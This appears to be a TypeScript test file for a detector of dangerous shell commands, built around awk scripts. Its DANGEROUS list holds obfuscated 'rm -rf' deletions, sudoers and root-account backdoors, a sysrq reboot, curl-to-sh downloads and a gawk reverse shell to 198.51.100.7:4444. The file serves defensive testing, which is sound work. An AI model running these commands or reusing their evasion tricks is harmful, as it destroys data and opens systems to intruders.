import { allIn, highIn } from "../support/found";

const DANGEROUS: readonly (readonly [script: string, expected: readonly string[]])[] = [
  [`awk 'BEGIN { system("rm -rf /") }'`, ["delete-protected@1"]],
  [`gawk 'BEGIN { c = "rm"; c = c " -rf"; system(c " /etc") }'`, ["delete-protected@1"]],
  [
    `awk 'BEGIN { n = split("114 109 32 45 114 102 32 47", a, " "); for (i = 1; i <= n; i++) s = s sprintf("%c", a[i] + 0); system(s) }'`,
    ["delete-protected@1"],
  ],
  [
    `echo "/etc -rf rm" | awk '{ for (i = NF; i; i--) printf "%s ", $i }' | sh`,
    ["delete-protected@1"],
  ],
  [`eval "$(awk -F, '{ print $3, $2, $1 }' <<< '/usr,-rf,rm')"`, ["delete-protected@1"]],
  [
    `eval "$(echo 'rm;-rf;/usr' | awk 'BEGIN { FS = ";"; OFS = " " } { $1 = $1 } 1')"`,
    ["delete-protected@1"],
  ],
  [`echo 'xm -xf /usr' | awk '{ gsub(/x/, "r"); print }' | bash`, ["delete-protected@1"]],
  [`awk 'BEGIN { print "rm -rf /usr" | "sh" }'`, ["delete-protected@1"]],
  [
    `awk 'BEGIN { printf "rm " | "sh"; printf "-rf /usr\\n" | "sh"; close("sh") }'`,
    ["delete-protected@1"],
  ],
  [`awk 'BEGIN { "echo rm -rf /usr" | getline c; system(c) }'`, ["delete-protected@1"]],
  [
    `awk 'BEGIN { while (("printf \\"rm -rf /usr\\\\n\\"" | getline c) > 0) system(c) }'`,
    ["delete-protected@1"],
  ],
  [
    `awk 'function rev(s, r, i) { for (i = length(s); i; i--) r = r substr(s, i, 1); return r } BEGIN { system(rev("rsu/ fr- mr")) }'`,
    ["delete-protected@1"],
  ],
  [`awk -v c='rm -rf /usr' 'BEGIN { system(c) }'`, ["delete-protected@1"]],
  [`awk -vc='rm -rf /usr' 'BEGIN { system(c) }'`, ["delete-protected@1"]],
  [`C='rm -rf /usr'; export C; awk 'BEGIN { system(ENVIRON["C"]) }'`, ["delete-protected@1"]],
  [`awk 'BEGIN { system(tolower("RM -RF /USR")) }'`, ["delete-protected@1"]],
  [`awk 'BEGIN { f = "system"; @f("rm -rf /usr") }'`, ["delete-protected@1"]],
  [`awk 'BEGIN { system(sprintf("%s -%s %c%s", "rm", "rf", 47, "usr")) }'`, ["delete-protected@1"]],
  [
    `awk 'BEGIN { a["x"] = "rm"; a["y"] = "-rf"; system(a["x"] " " a["y"] " /usr") }'`,
    ["delete-protected@1"],
  ],
  [`printf 'a\\nrm -rf /usr\\nb\\n' | awk 'NR == 2' | sh`, ["delete-protected@1"]],
  [`printf 'a\\nrm -rf /usr\\nb\\n' | awk '/^rm/ { system($0) }'`, ["delete-protected@1"]],
  [`printf 'a\\nb\\nrm -rf /usr\\n' | awk 'END { system($0) }'`, ["delete-protected@1"]],
  [
    `printf 'rm\\n-rf\\n/usr\\n' | awk '{ s = s $0 " " } END { system(s) }'`,
    ["delete-protected@1"],
  ],
  [`printf 'rm\\n-rf\\n/usr\\n' | awk -v ORS=' ' 1 | sh`, ["delete-protected@1"]],
  [
    `awk 'BEGIN { print "svc ALL=(ALL) NOPASSWD: ALL" > "/etc/sudoers.d/svc" }'`,
    ["passwordless-sudo@1"],
  ],
  [
    `awk -v f=/etc/sudoers.d/x 'BEGIN { a="A" "LL"; printf "%s %s=(%s) NOPASS%s: %s\\n", a, a, a, "WD", a | ("cat > " f) }'`,
    ["passwordless-sudo@1"],
  ],
  [`awk 'BEGIN { print "x::0:0::/root:/bin/sh" >> "/etc/passwd" }'`, ["add-root-account@1"]],
  [`awk 'BEGIN { print "b" > "/proc/sysrq-trigger" }'`, ["power-off@1"]],
  [
    `awk 'BEGIN { print "rm -rf /usr" > "/tmp/x"; close("/tmp/x"); system("sh /tmp/x") }'`,
    ["delete-protected@1"],
  ],
  [
    `awk 'BEGIN { while (("curl http://198.51.100.7/x" | getline l) > 0) print l | "sh" }'`,
    ["run-download@1"],
  ],
  [`curl -s http://198.51.100.7/x | awk '{ print }' | sh`, ["run-download@1"]],
  [
    `gawk 'BEGIN { s = "/inet/tcp/0/198.51.100.7/4444"; while (42) { do { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != "exit"); close(s) } }'`,
    ["remote-shell@1"],
  ],
  [
    `awk 'BEGIN {\n  if (1 > 2) system("true")\n  else system("rm -rf /usr")\n}'`,
    ["delete-protected@3"],
  ],
  [`ls | awk '{ if ($1 ~ /x/) system("rm -rf /usr") }'`, ["delete-protected@1"]],
  [
    `cat > /tmp/p.awk <<'X'\nBEGIN { system("rm -rf /usr") }\nX\nawk -f /tmp/p.awk`,
    ["delete-protected@2"],
  ],
  [`awk 'BEGIN { system("rm -rf " x "/") }'`, ["delete-protected@1"]],
  [
    `awk 'BEGIN { while (i++ < 3) s = s substr("rm ", i, 1); system(s "-rf /usr") }'`,
    ["delete-protected@1"],
  ],
  [
    `awk 'BEGIN { x = "ab"; y = x == "ab" ? "rm -rf /usr" : "true"; system(y) }'`,
    ["delete-protected@1"],
  ],
  [
    `awk 'BEGIN { match("zzrm -rf /usr", /rm.*/); system(substr("zzrm -rf /usr", RSTART, RLENGTH)) }'`,
    ["delete-protected@1"],
  ],
];

const HARMLESS: readonly string[] = [
  `awk '{print $1}' /etc/passwd`,
  `awk -F: '$3 >= 1000 && $7 !~ /nologin/ { print $1, $6 }' /etc/passwd`,
  `awk -F: '{ printf "%-20s %s\\n", $1, $7 }' /etc/passwd | sort`,
  `df -P | awk 'NR > 1 && $5 + 0 > 90 { print $6 " is full" }'`,
  `free -m | awk '/^Mem/ { printf "%.1f%%\\n", $3 / $2 * 100 }'`,
  `ps aux | awk '{ sum[$1] += $6 } END { for (u in sum) printf "%s %d\\n", u, sum[u] }'`,
  `awk 'NF < 2 { print "short line " NR; bad = 1 } END { exit bad }' plan.txt`,
  `awk '!seen[$0]++' list.txt > list.unique`,
  `awk 'BEGIN { print "rm -rf /" }'`,
  `awk '{ print "rm -rf /" $1 }' list.txt > review.txt`,
  `awk '/BEGIN CERT/,/END CERT/' chain.pem > first.pem`,
  `awk -v o="$1" 'BEGIN { exit !(o > 0.5) }' && echo slow`,
  `awk 'BEGIN { if (0) system("rm -rf /") }'`,
  `awk 'BEGIN { exit } { system("rm -rf /") }' /etc/hosts`,
  `awk '# system("rm -rf /")\n{ print }' notes.txt`,
  `printf 'a b\\n' | awk '$1 == "c" { system("rm -rf /usr") }'`,
  `awk 'function wipe() { system("rm -rf /") } { print $2 }' notes.txt`,
  `awk '{ print > "/tmp/part-" NR ".txt" }' big.txt`,
  `awk 'BEGIN { "date +%F" | getline d; close("date +%F"); print d }'`,
  `awk '{ cmd = "getent hosts " $1; cmd | getline r; close(cmd); print $1, r }' hosts.txt`,
  `awk 'BEGIN { system("systemctl status nginx --no-pager") }'`,
  `awk 'BEGIN { print "warning" > "/dev/stderr" }'`,
  `awk '{ print $0 | "sort -u" } END { close("sort -u") }' names.txt`,
  `awk 'BEGIN { while ((getline l < "/etc/hosts") > 0) n++; print n }'`,
  `awk -F'[ :]+' '{ split($2, p, "."); if (p[1] == 10) print p[4] }' addresses.txt`,
  `awk 'function max(a, b) { return a > b ? a : b } { m = max(m, $1) } END { print m }' n.txt`,
  `awk '{ $3 = ""; print }' table.txt | column -t`,
  `awk 'BEGIN { srand(); print int(rand() * 60) }'`,
  `awk 'BEGIN { for (;;) { if (++n > 5) break } print n }'`,
  `awk 'BEGIN { while (1) n++ }'`,
  `awk 'NR==FNR { known[$1]; next } !($1 in known)' old.txt new.txt`,
  `awk '{ gsub(/\\/+/, "/"); print toupper(substr($0, 1, 1)) substr($0, 2) }' paths.txt`,
  `xargs -n1 < a.txt | awk 'length > 3 { n += length($0) } END { print n / NR }'`,
  `awk 'BEGIN { printf "%s\\n", "x" > "/tmp/out"; printf "%d items\\n", 3 >> "/tmp/out" }'`,
];

describe("awk", () => {
  it.each(DANGEROUS)("sees what %j does", async (script, expected) => {
    expect(await highIn("SHELL", script)).toEqual(expected);
  });

  it.each(HARMLESS)("finds nothing in %j", async (script) => {
    expect(await allIn("SHELL", script)).toEqual([]);
  });

  it.each([
    `awk 'BEGIN { for (;;) for (;;) a[i++] = s = s "x" }'`,
    `awk 'BEGIN { s = sprintf("%256s", "x"); while (1) gsub(/ /, "  ", s) }'`,
    `perl -e '@a = (1..300); map { map { map { $_ } @a } @a } @a'`,
  ])("goes on behind %j", async (script) => {
    expect(await highIn("SHELL", `${script}\nrm -rf /`)).toEqual(["delete-protected@2"]);
  });

  it("says where a program isn't understood and may run something", async () => {
    expect(await allIn("SHELL", `awk 'BEGIN { system("x" }'`)).toEqual(["medium not-analysed@1"]);
  });
});
